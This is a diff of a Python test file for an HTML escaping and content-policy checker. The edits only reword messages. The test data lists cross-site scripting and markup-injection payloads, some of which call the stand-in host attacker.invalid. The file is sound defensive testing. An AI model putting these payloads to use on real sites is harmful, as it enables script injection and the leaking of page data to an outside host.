@@ -1,4 +1,4 @@
-"""Pages broken on purpose, which prove that the check without the policy can fail: each has to be reported."""
+"""Deliberately broken pages. The check without the policy must report each of them."""
 
 from documents import Words
 from observer import Observer
@@ -14,7 +14,7 @@ PAGE = (
 FIELDS = ("title", "title attribute", "heading", "address")
 PLAIN = ("a", "b", "c", "d")
 
-# The field that is not escaped, its text, and how each of the mistakes begins that have to be reported.
+# The field that is not escaped, its text, and the beginnings of the required reports.
 BREAKS = (
     ("heading", "<script>breach()</script>", ("a script ran", "it has")),
     ("heading", "<img src=x onerror=breach()>", ("a script ran", "a request", "it has")),
@@ -27,7 +27,7 @@ BREAKS = (
     ("heading", "<!--", ("it has 'other node'",)),
     ("heading", "&lt;", ("it has 'text'",)),
     ("heading", "<img src='https://attacker.invalid/?", ("a request", "it has")),
-    ("heading", "<meta http-equiv=refresh content='0;url=about:blank#x'>", ("it leads away",)),
+    ("heading", "<meta http-equiv=refresh content='0;url=about:blank#x'>", ("a navigation started",)),
     ("heading", "<iframe srcdoc='<script>parent.breach()</script>'></iframe>", ("a script ran",)),
     ("heading", "<style>@import 'https://attacker.invalid/a.css'</style>", ("a request",)),
     ("title", "</title><script>breach()</script>", ("a script ran", "it has")),
@@ -39,21 +39,21 @@ BREAKS = (
 
 
 def look(browser, findings, name, folder):
-    """Checks that each broken page is reported, and that an intact one is not."""
+    """Checks that each broken page is reported, and that a correct page is not."""
     folder.mkdir(parents=True, exist_ok=True)
     observer, words, file = Observer(browser), Words(), folder / "broken.html"
     file.write_text(PAGE.format(*map(words, FIELDS)), encoding="utf-8")
-    mistakes = [f"it finds no policy: {mistake}" for mistake in without_policy(file)]
-    mistakes += ["it finds a policy where it was taken out"] if not without_policy(file) else []
+    mistakes = [f"policy not found: {mistake}" for mistake in without_policy(file)]
+    mistakes += ["found a policy after its removal"] if not without_policy(file) else []
     nodes, found = observer.view(file)
-    mistakes += [f"an unbroken page: {mistake}" for mistake in found]
+    mistakes += [f"a correct page: {mistake}" for mistake in found]
 
     def reported(texts):
         file.write_text(PAGE.format(*texts), encoding="utf-8")
         without_policy(file)
         return breaches(observer, file, Twin(nodes), texts)
 
-    mistakes += [f"an unbroken page: {mistake}" for mistake in reported(PLAIN)]
+    mistakes += [f"a correct page: {mistake}" for mistake in reported(PLAIN)]
     for field, text, wanted in BREAKS:
         texts = [text if field == name else plain for name, plain in zip(FIELDS, PLAIN)]
         found = reported(texts)
@@ -65,7 +65,7 @@ def look(browser, findings, name, folder):
 
 
 def leading_away(observer, file):
-    """Returns a mistake unless a link to a script is reported, also where links may be missing."""
+    """Returns an error unless a link to a script is reported, even if links may be missing."""
     file.write_text('<!DOCTYPE html><title>a</title><p><a href="javascript:breach()">Link</a></p>', encoding="utf-8")
     twin = Twin(without_links(observer.view(file)[0])[0])
     found = breaches(observer, file, twin, [], are_links=True)
